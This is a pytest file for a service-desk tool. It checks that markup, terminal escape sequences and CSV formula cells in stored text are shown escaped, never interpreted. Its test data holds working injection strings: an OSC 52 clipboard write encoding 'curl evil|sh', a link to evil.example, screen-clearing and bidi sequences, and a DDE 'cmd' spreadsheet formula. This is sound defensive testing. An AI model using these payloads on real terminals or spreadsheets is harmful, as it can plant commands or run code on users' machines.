"""Stored text is data on every screen: markup in it is shown, not interpreted; terminal escape
sequences and other control characters in it are shown escaped (`\\x1b`), never sent raw; CSV
cells cannot become spreadsheet formulas. Reproductions of issue 18 item 4 first, then a
property test that feeds random markup and control characters through every renderer."""

import asyncio
import csv
import io
import json

import pytest

from sdesk.domain.plain import controls, csv_cell
from sdesk.intake.service import Intake
from sdesk.store import Store

ESC = "\x1b"
RETITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
CLEAR = "\x1b[2J"
OSC8 = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
CSI_C1 = "\x9b2J"
BIDI = "abc\u202edcba"
HOSTILE = RETITLE + CLIPBOARD + CLEAR + OSC8 + CSI_C1 + BIDI


def raw_controls(text: str) -> list[str]:
    """Control characters a terminal would act on (newline and tab are layout)."""
    return sorted({c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f
                   or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"})


# -- reproductions ----------------------------------------------------------------------------------


def test_markup_in_an_actor_shows_as_text_in_the_timeline(cli):
    ticket = cli.new("disk full")
    cli("--as", "[/x]", "comment", str(ticket), "hi")
    out = cli("show", str(ticket)).stdout
    assert "[/x]" in out and "hi" in out


def test_a_refused_attempt_by_a_markup_actor_shows_as_text(cli, tmp_path):
    ticket = cli.new("disk full")
    (tmp_path / "config").mkdir(exist_ok=True)
    (tmp_path / "config" / "roles.yaml").write_text("default_role: viewer\n")
    cli("user", "add", "alice", "--role", "admin")
    refused = cli("--as", "[/x]", "comment", str(ticket), "hi", ok=False)
    assert refused.exit_code == 5
    out = cli("--as", "alice", "show", str(ticket)).stdout
    assert "[/x]" in out and "refused" in out


def test_markup_in_every_ticket_field_is_shown_literally(cli):
    ticket = cli.new("[bold]title[/bold] [/nope]", "--service", "[/svc]", "--queue", "[red]q",
                     "--requester", "[link=https://evil.example]me[/link]", "-l", "[k]=[/v]", "-t", "[@click=app.quit]t",
                     "-d", "[/desc]")
    cli("assign", str(ticket), "[/who]")
    show = cli("show", str(ticket)).stdout
    for literal in ("[bold]title[/bold] [/nope]", "[/svc]", "[red]q", "[k]=[/v]", "[@click=app.quit]t", "[/desc]",
                    "[/who]"):
        assert literal in show
    listed = cli("list").stdout
    assert "[bold]title" in listed


def test_escape_sequences_from_stored_text_never_reach_the_terminal(cli):
    ticket = cli.new("t" + HOSTILE, "-d", "line one\n" + HOSTILE, "-l", "k=" + HOSTILE, "--service", "s" + CLEAR,
                     "-t", "x" + CSI_C1)
    cli("--as", "eve" + RETITLE, "comment", str(ticket), "c" + HOSTILE)
    for args in (["show", str(ticket)], ["list"], ["why", str(ticket)]):
        out = cli(*args).stdout
        assert raw_controls(out) == [], args
    show = cli("show", str(ticket)).stdout
    assert "\\x1b]0;pwned\\x07" in show and "\\x9b2J" in show and "\\u202e" in show
    assert "line one\n" in show  # a description keeps its lines


def test_json_output_keeps_the_exact_text(cli):
    ticket = cli.new("t" + HOSTILE)
    assert cli.json("show", str(ticket))["title"] == "t" + HOSTILE
    assert cli.json("list")[0]["title"] == "t" + HOSTILE


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_cannot_become_formulas(cli, db_path, start):
    formula = start + 'HYPERLINK("https://evil.example","x")'
    with Store(db_path) as store:
        Intake(store).intake([{"title": formula, "service": formula, "requester": start + "cmd|' /C calc'!A0",
                       "kind": "incident", "priority": "P3"}], actor="t", source="cli")
    out = cli("list", "--csv").stdout
    [row] = list(csv.DictReader(io.StringIO(out)))
    for field in ("title", "service", "requester"):
        assert row[field][0] not in "=+-@\t\r", (field, row[field])
        assert row[field].startswith("'") or row[field].startswith("HYPERLINK")  # a title loses its leading blank
    assert raw_controls(out) == []


def test_csv_keeps_ordinary_cells_and_numbers():
    assert csv_cell("disk full") == "disk full" and csv_cell(3) == 3 and csv_cell("") == ""
    assert csv_cell("a\nb") == "a\nb"  # CSV quotes newlines itself


def test_controls_escapes_what_a_terminal_acts_on_and_keeps_text():
    assert controls("plain ünïcode ✓ 🙂") == "plain ünïcode ✓ 🙂"
    assert controls("\x1b]0;x\x07") == "\\x1b]0;x\\x07"
    assert controls("a\nb\tc") == "a\nb\tc"
    assert controls("a\nb\tc\r", one_line=True) == "a\\nb\\tc\\r"
    assert controls("\x9b\u202e\ud800") == "\\x9b\\u202e\\ud800"


# -- the TUI ----------------------------------------------------------------------------------------


def run_tui(db_path, actor, steps=(), size=(80, 30)):
    """Start the TUI, press `steps` (each a tuple of keys, the workers settled after each), and
    return the text of every widget that was on the screen after each step."""
    from textual.widgets import DataTable

    from sdesk.tui.app import make_app

    seen: list[str] = []

    async def body():
        app = make_app(db_path, actor, poll=3600)
        async with app.run_test(size=size) as pilot:
            for keys in ((), *steps):
                await pilot.press(*keys)
                for _ in range(40):
                    await pilot.pause(0.05)
                    await app.workers.wait_for_complete()
                    if not app.screen.query(DataTable) or app.screen.query_one(DataTable).row_count:
                        break
                seen.append(screen_text(app))
        assert app.return_code in (None, 0)

    asyncio.run(body())
    return seen


def screen_text(app) -> str:
    """Everything the screen paints, as the terminal would get it (the compositor's strips)."""
    lines = app.screen._compositor.render_update(full=True)
    from rich.console import Console

    out = Console(file=io.StringIO(), width=app.size.width, force_terminal=True, color_system="truecolor",
                  legacy_windows=False)
    out.print(lines)
    return out.file.getvalue()


def hostile_ticket(db_path, **fields):
    with Store(db_path) as store:
        [(ticket, _)] = Intake(store).intake([{"title": "hostile", "kind": "incident", "priority": "P2", **fields}],
                                     actor="t", source="cli")
    return ticket


@pytest.mark.parametrize("field", ["service", "assignee", "title", "queue"])
def test_the_tui_starts_over_a_ticket_with_markup_in_a_field(db_path, field):
    hostile_ticket(db_path, **{field: "[/nope]"})
    [queue, ticket] = run_tui(db_path, "alice", [("enter",)])
    assert "[/nope]" in queue + ticket


def test_the_tui_starts_for_an_actor_with_markup_and_shows_a_markup_actor(db_path):
    ticket = hostile_ticket(db_path)
    with Store(db_path) as store:
        store.tickets.comment(ticket_id=ticket, text="[/c]", actor="[/x]")
    [queue, shown] = run_tui(db_path, "[/me]", [("enter",)])
    assert "[/me]" in queue
    assert "[/x]" in shown and "[/c]" in shown


# -- the class: random markup and control characters through every renderer ------------------------

from conftest import examples  # noqa: E402
from hypothesis import HealthCheck, example, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

PIECES = ["[", "]", "[/x]", "[/]", "[bold]", "[red]", "[link=https://evil.example]", "[@click=app.quit]",
          "[@click=screen.dismiss]", ":fire:", "\\", "\\[", "*", "`", "#", "|", "%s", "=", "@", "-",
          RETITLE, CLIPBOARD, CLEAR, OSC8, "\x1bP+q\x1b\\", "\x9b31m", "\x9d0;x\x9c", "\x85", "\u202e", "\u2066",
          "\r", "\n", "\t", "\x7f", "\x08", "\x00"]
hostile = st.lists(st.one_of(st.sampled_from(PIECES), st.characters(max_codepoint=0x9f),
                             st.characters(blacklist_categories=("Cs",))), min_size=1, max_size=10).map(
    lambda parts: "Q" + "".join(parts) + "Z")  # a letter each end: nothing a strip() takes


def yaml_str(s: str) -> str:
    """`s` as a YAML double-quoted scalar: what YAML may not hold raw as an escape."""
    def one(c: str) -> str:
        if c in '\\"':
            return "\\" + c
        if "\x20" <= c <= "\x7e" or "\xa0" <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd":
            return c
        code = ord(c)
        return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"

    return '"' + "".join(map(one, s)) + '"'


def storable(s: str) -> str:
    """`s` as the backend can store it: PostgreSQL's text holds no NUL (a text with one is refused
    there in one line: test_postgres_faults), SQLite's keeps it."""
    from conftest import POSTGRES

    return s.replace("\x00", "") if POSTGRES else s


def hostile_desk(cli, root, s):
    """A desk whose every kind of stored text holds `s`: tickets and their fields, actors,
    comments, resolutions, KB articles, CIs, changes, problems, silences, on-call names, a
    runbook whose step prints it. Returns the ids the renderers need."""
    config = root / "config"
    (config / "runbooks").mkdir(parents=True)
    (root / "out.txt").write_text(s)
    (config / "cmdb.yaml").write_text(
        f"cis:\n  - {{name: web-1, type: host, team: {yaml_str(s)}, environment: {yaml_str(s)},"
        f" attributes: {{{yaml_str(s)}: {yaml_str(s)}}}}}\n"
        f"  - {{name: app-1, type: application, depends_on: [web-1]}}\n")
    (config / "oncall.yaml").write_text(
        f"teams:\n  - {{name: ops, schedule: ops-primary, members: [carol, bob]}}\n"
        f"queues:\n  - {{name: ops, team: ops, strategy: manual}}\n"
        f"schedules:\n  - name: ops-primary\n    timezone: UTC\n    layers:\n"
        f"      - {{name: {yaml_str(s)}, start: 2026-01-05T09:00, length: 1w, users: [carol, bob]}}\n")
    (config / "sla.yaml").write_text(
        f"policies:\n  - {{name: {yaml_str(s)}, kind: incident, respond: 1h, resolve: 4h}}\n"
        f"slos:\n  - {{ci: web-1, objective: 99.9, window: 30d}}\n")
    (config / "runbooks" / "show.yaml").write_text(
        f"name: show-it\ndescription: {yaml_str(s)}\nsafe_for_automation: false\n"
        f"steps:\n  - id: print\n    run: [cat, {yaml_str(str(root / 'out.txt'))}]\n")
    kb = root / "kb"
    kb.mkdir(exist_ok=True)
    (kb / "a.md").write_text(f"---\ntitle: {yaml_str(s)}\ntags: [{yaml_str(s)}]\nowner: {yaml_str(s)}\n---\n"
                             f"hostile hostile {s}\n\n- {s}\n\n```\n{s}\n```\n")
    optional = []  # writes the desk may refuse for its own reasons (a name rule): not what is tested

    def maybe(*args):
        r = cli(*args, ok=False)
        if r.exit_code != 0 or r.exception:
            optional.append((args[:2], r.exit_code, r.stderr[-200:]))
        return r

    ticket = cli.json("new", s, "-d", f"first line\n{s}", "--service", s, "--ci", s, "-q", s, "--requester", s,
                      "-l", f"{s}={s}", "-t", s, "-p", "P1")["id"]
    cli("--as", s, "comment", str(ticket), s)
    # (not a known user: the point is how it shows; a name with control or bidi characters is refused)
    maybe("assign", str(ticket), s, "--force")
    cli("update", str(ticket), "--category", s, "--team", s)
    done = cli.new("resolved " + s, "--service", s)
    cli("--as", s, "resolve", str(done), "-r", s, "--code", s, "--kb")
    cli("csat", str(done), "2", "-c", s)
    cli("worklog", str(done), "30m", "-n", s)
    maybe("cmdb", "import", str(config / "cmdb.yaml"))
    maybe("kb", "import", str(kb))
    maybe("change", "new", "--title", s, "--ci", "web-1")
    problem = maybe("problem", "new", "--from", str(ticket), "--title", s, "--root-cause", s,
                    "--workaround", s).stdout.strip()
    maybe("silence", "add", "--match", "alertname=x", "--for", "1h", "-c", s)
    maybe("--as", "root", "user", "add", "admin1", "--role", "admin")
    maybe("--as", "admin1", "user", "token", "admin1", "--label", s)
    maybe("--as", "admin1", "runbook", "run", "show-it", "--ticket", str(ticket), "--yes")
    return ticket, done, problem, optional


# (name, arguments, whether the hostile text must be shown whole: the rest may truncate it)
RENDERERS = [
    ("list", ["list"], True), ("list --all", ["list", "--all"], True), ("list --csv", ["list", "--csv"], False),
    ("list --json", ["list", "--json"], False), ("list --jsonl", ["list", "--jsonl"], False),
    ("show --json", ["show", "{ticket}", "--json"], False),
    ("show", ["show", "{ticket}"], True), ("show resolved", ["show", "{done}"], True), ("why", ["why", "{ticket}"], False),
    ("report", ["report", "--since", "30d"], False), ("report by queue", ["report", "--since", "30d", "--by", "queue"], True),
    ("report --csv", ["report", "--since", "30d", "--csv"], False),
    ("report executive", ["report", "executive"], False), ("report oncall", ["report", "oncall"], True),
    ("report service", ["report", "service", "{s}"], True), ("postmortem", ["postmortem", "{ticket}"], False),
    ("kb list", ["kb", "list"], True), ("kb search", ["kb", "search", "hostile"], True), ("kb show", ["kb", "show", "1"], True),
    ("kb history", ["kb", "history", "1"], True), ("kb stale", ["kb", "stale"], False),
    ("cmdb list", ["cmdb", "list"], True), ("cmdb show", ["cmdb", "show", "web-1"], True),
    ("cmdb impact", ["cmdb", "impact", "web-1"], False), ("oncall now", ["oncall", "now"], True),
    ("oncall show", ["oncall", "show", "-s", "ops-primary"], True), ("sla", ["sla"], False), ("slo", ["slo"], False),
    ("runbook list", ["runbook", "list"], True), ("runbook show", ["runbook", "show", "show-it"], True),
    ("runbook runs", ["runbook", "runs"], False), ("runbook log", ["runbook", "log", "1"], True),
    ("runbook dry run", ["runbook", "run", "show-it", "--ticket", "{ticket}", "--dry-run"], True),
    ("audit log", ["audit", "log"], True), ("user list", ["user", "list"], False), ("user tokens", ["user", "tokens"], True),
    ("change list", ["change", "list"], True), ("change show", ["change", "show", "1"], True),
    ("problem list", ["problem", "list"], True), ("problem show", ["problem", "show", "{problem}"], True),
    ("silence list", ["silence", "list"], False), ("pages", ["pages"], False),
]


def invoke(cli, argv):
    """The command's result, a crash included (the cli fixture raises it)."""
    from sdesk.cli import app

    return cli.runner.invoke(app, argv)


def check_output(name, result, s, whole):
    out = result.stdout + result.stderr
    problems = []
    if result.exception and not isinstance(result.exception, SystemExit):
        problems.append(f"{name}: {type(result.exception).__name__}: {result.exception}")
    elif result.exit_code != 0:
        problems.append(f"{name}: exit {result.exit_code}: {result.stderr[-300:]}")
    if raw_controls(out):
        problems.append(f"{name}: raw control characters {raw_controls(out)}")
    # A long text may end in "…" in a table column: then its start must be there as written.
    shown = [form if len(form) <= 60 else form[:40] for form in (controls(s, one_line=True), controls(s))]
    if whole and not problems and not any(form in out for form in shown):
        problems.append(f"{name}: the text is not shown as written: {controls(s, one_line=True)!r}")
    return problems


def renderer_failures(cli, root, s):
    ticket, done, problem, _ = hostile_desk(cli, root, s)
    failures = []
    for name, args, whole in RENDERERS:
        argv = [a.format(ticket=ticket, done=done, problem=problem or "0", s=s) for a in args]
        failures += check_output(name, invoke(cli, argv), s, whole)
    return failures


SEEN = ["Q[/x]" + HOSTILE + "\n\t[@click=app.quit]:fire:Z",  # each reproduction at once
        "Q\\[Z"]  # rich's markup escape keeps this, then its parser drops the backslash: found by this test


def new_desk(request, root) -> str:
    """A new desk for one example, on the suite's backend: a file in `root`, or on the PostgreSQL
    run a new schema on the server (conftest's fresh_pg)."""
    from conftest import POSTGRES

    return request.getfixturevalue("fresh_pg")() if POSTGRES else str(root / "desk.db")


@settings(max_examples=examples(8), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(s=hostile)
@example(s=SEEN[0])
@example(s=SEEN[1])
def test_every_cli_renderer_shows_hostile_text_escaped_and_never_interprets_it(cli, tmp_path_factory, monkeypatch,
                                                                               request, s):
    """42 read commands over a desk whose every text field holds `s`: none fails, none lets a
    control character through, and those that show the field whole show it escaped, as written."""
    s = storable(s)
    root = tmp_path_factory.mktemp("desk")
    monkeypatch.setenv("SDESK_DB", new_desk(request, root))
    monkeypatch.setenv("SDESK_CONFIG", str(root / "config"))
    monkeypatch.setenv("COLUMNS", "400")  # wide enough that nothing is cut: the whole text can be looked for
    assert renderer_failures(cli, root, s) == []


def painted(app) -> str:
    """The characters the TUI paints on its screen (notifications included), line by line."""
    return "\n".join("".join(segment.text for segment in strip) for strip in app.screen._compositor.render_strips())


TUI_STEPS = [  # (screen, keys from the one before)
    ("queue", ()), ("ticket", ("enter",)), ("kb search", ("escape", "K", *"hostile", "enter")),
    ("kb article", ("enter",)), ("on call", ("escape", "escape", "O")), ("dashboard", ("escape", "D")),
    ("filter error", ("escape", "slash", *"zz:[/x]", "enter")), ("assign picker", ("escape", "A")),
    ("runbook picker", ("escape", "escape", "R")), ("runbook", ("enter",)), ("runbook run", ("y",)),
    ("help", ("escape", "question_mark")),
]


def tui_failures(db_path, config, actor, s):
    from textual.widgets import DataTable

    from sdesk.tui.app import make_app

    failures = []

    async def body():
        app = make_app(db_path, actor, config, poll=3600)
        async with app.run_test(size=(200, 60), notifications=True) as pilot:  # toasts too
            for name, keys in TUI_STEPS:
                await pilot.press(*keys)
                for _ in range(100):  # until its workers are done and what they read is drawn
                    await pilot.pause(0.05)
                    await app.workers.wait_for_complete()
                    table = app.screen.query(DataTable)
                    if (not table or table.first().row_count) and "loading..." not in painted(app):
                        break
                text = painted(app)
                if raw_controls(text):
                    failures.append(f"{name}: raw control characters {raw_controls(text)}")
                if name in ("ticket", "kb article") and controls(s, one_line=True)[:60] not in text:
                    failures.append(f"{name}: the title is not shown as written: {controls(s, one_line=True)!r}")
        if app.return_code not in (None, 0):
            failures.append(f"the app ended with {app.return_code}")

    try:
        asyncio.run(body())
    except Exception as e:  # the app crashed (Textual re-raises what killed it)
        failures.append(f"crash: {type(e).__name__}: {e}")
    return failures


@pytest.mark.slow
@settings(max_examples=examples(4), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(s=hostile)
@example(s=SEEN[0])
def test_every_tui_screen_shows_hostile_text_escaped_and_never_interprets_it(cli, tmp_path_factory, monkeypatch,
                                                                           request, s):
    s = storable(s)
    root = tmp_path_factory.mktemp("desk")
    db = new_desk(request, root)
    monkeypatch.setenv("SDESK_DB", db)
    monkeypatch.setenv("SDESK_CONFIG", str(root / "config"))
    hostile_desk(cli, root, s)
    assert tui_failures(db, root / "config", s, s) == []


def test_json_output_writes_c1_and_bidi_controls_as_escapes_and_keeps_the_value(cli):
    title = "t\x9b2J\x85\u202e\x7f\x1b]0;x\x07"
    ticket = cli.new(title)
    for args in (["show", str(ticket), "--json"], ["list", "--json"], ["list", "--jsonl"]):
        out = cli(*args).stdout
        assert raw_controls(out) == [], args
        value = json.loads(out if args[-1] != "--jsonl" else out.splitlines()[0])
        assert (value if isinstance(value, dict) else value[0])["title"] == title


@pytest.mark.parametrize("count, text", [(0, "0 pages"), (1, "1 page"), (2, "2 pages"), (1200, "1,200 pages"),
                                         (1.0, "1 page"), (1.5, "1.5 pages")])
def test_a_count_and_its_noun_agree(count, text):
    from sdesk.domain.plain import plural

    assert plural(count, "page") == text
    assert plural(count, "reply", "replies").endswith("reply" if count == 1 else "replies")
